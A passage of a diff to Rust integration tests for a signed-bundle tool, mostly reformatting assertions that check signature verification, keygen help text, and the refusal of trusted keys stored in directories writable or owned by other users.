+        cfg.join("trusted-keys/release.pub"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    let o = mb_env(
+        d,
+        &["verify", "signed.mbundle"],
+        &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())],
+    );
+    assert!(
+        o.status.success() && text(&o.stdout).contains(", verified"),
+        "{}",
+        all(&o)
+    );
 }
 
 #[test]
@@ -791,7 +1134,10 @@ fn help_describes_the_signature_states_and_the_trust_policy() {
         }
     }
     let h = text(&mb(dir.path(), &["keygen", "--help"]).stdout);
-    assert!(h.contains("fingerprint") && h.contains("trusted-keys") && h.contains("Examples:"), "{h}");
+    assert!(
+        h.contains("fingerprint") && h.contains("trusted-keys") && h.contains("Examples:"),
+        "{h}"
+    );
 }
 
 #[test]
@@ -828,12 +1174,32 @@ fn trusted_keys_and_every_directory_above_them_belong_to_root_or_the_caller() {
     nobody(&d.join("sticky/theirs"));
 
     let cases = [
-        (open_parent.clone(), "open-parent: a directory above the trusted key", "writable by anyone"),
-        (group_parent.clone(), "group-parent: a directory above the trusted key", "writable by its group"),
-        (their_file.join("release.pub"), "their-file/keys/release.pub", "owned by user 65534"),
+        (
+            open_parent.clone(),
+            "open-parent: a directory above the trusted key",
+            "writable by anyone",
+        ),
+        (
+            group_parent.clone(),
+            "group-parent: a directory above the trusted key",
+            "writable by its group",
+        ),
+        (
+            their_file.join("release.pub"),
+            "their-file/keys/release.pub",
+            "owned by user 65534",
+        ),
         (their_dir.clone(), "their-dir/keys", "owned by user 65534"),
-        (their_parent.clone(), "their-parent: a directory above the trusted key", "owned by user 65534"),
-        (sticky_theirs.clone(), "sticky/theirs: a directory above the trusted key", "owned by user 65534"),
+        (
+            their_parent.clone(),
+            "their-parent: a directory above the trusted key",
+            "owned by user 65534",
+        ),
+        (
+            sticky_theirs.clone(),
+            "sticky/theirs: a directory above the trusted key",
+            "owned by user 65534",
+        ),
     ];
     for (path, what, why) in &cases {
         for p in [path.clone(), path.join("release.pub")] {
@@ -843,12 +1209,18 @@ fn trusted_keys_and_every_directory_above_them_belong_to_root_or_the_caller() {
             let full = p.to_str().unwrap();
             for (args, env) in [
                 (vec!["verify", "signed.mbundle", "--key", full], vec![]),
-                (vec!["import", "signed.mbundle", "--quiet", "--extract", "out"], vec![("MESHBUNDLE_TRUSTED_KEYS", full)]),
+                (
+                    vec!["import", "signed.mbundle", "--quiet", "--extract", "out"],
+                    vec![("MESHBUNDLE_TRUSTED_KEYS", full)],
+                ),
             ] {
                 let o = mb_env(d, &args, &env);
                 let err = text(&o.stderr);
                 assert_eq!(o.status.code(), Some(1), "{full} {args:?}: {}", all(&o));
-                assert!(err.contains("error: ") && err.contains(what) && err.contains(why), "{full}: expected `{what}`, `{why}` in: {err}");
+                assert!(
+                    err.contains("error: ") && err.contains(what) && err.contains(why),
+                    "{full}: expected `{what}`, `{why}` in: {err}"
+                );
                 assert!(!d.join("out").exists());
             }
         }
@@ -858,7 +1230,12 @@ fn trusted_keys_and_every_directory_above_them_belong_to_root_or_the_caller() {
     let sticky_ours = mk("sticky/ours");
     for p in [sound, sticky_ours.clone(), sticky_ours.join("release.pub")] {
         let o = mb(d, &["verify", "signed.mbundle", "--key", p.to_str().unwrap()]);
-        assert!(o.status.success() && text(&o.stdout).contains(", verified"), "{}: {}", p.display(), all(&o));
+        assert!(
+            o.status.success() && text(&o.stdout).contains(", verified"),
+            "{}: {}",
+            p.display(),
+            all(&o)
+        );
     }
 }
 
@@ -876,7 +1253,10 @@ fn the_marker_of_a_laid_out_tree_is_the_verified_bundle_id() {
     let o = mb(d, &["import", "x.mbundle", "--quiet", "--extract", "out"]);
     assert!(o.status.success(), "{}", all(&o));
     let id = printed_id(&text(&o.stderr));
-    assert_eq!(std::fs::read_to_string(d.join("out/.meshbundle")).unwrap(), format!("{id}\n"));
+    assert_eq!(
+        std::fs::read_to_string(d.join("out/.meshbundle")).unwrap(),
+        format!("{id}\n")
+    );
     // The same seal written another way (pretty-printed, SEAL.sha256 to match):
     // its id is that of the bytes verified, whatever a re-serialised seal says.
     let list = entries(&d.join("x.mbundle"));
@@ -894,7 +1274,10 @@ fn the_marker_of_a_laid_out_tree_is_the_verified_bundle_id() {
     if o.status.success() {
         let id = printed_id(&text(&o.stderr));
         assert_eq!(id, format!("sha256:{}", sha256_hex(&head.1)));
-        assert_eq!(std::fs::read_to_string(d.join("pretty/.meshbundle")).unwrap(), format!("{id}\n"));
+        assert_eq!(
+            std::fs::read_to_string(d.join("pretty/.meshbundle")).unwrap(),
+            format!("{id}\n")
+        );
     } else {
         // A seal not in canonical form may be refused outright; then nothing is laid out.
         assert!(!d.join("pretty").exists(), "{}", all(&o));
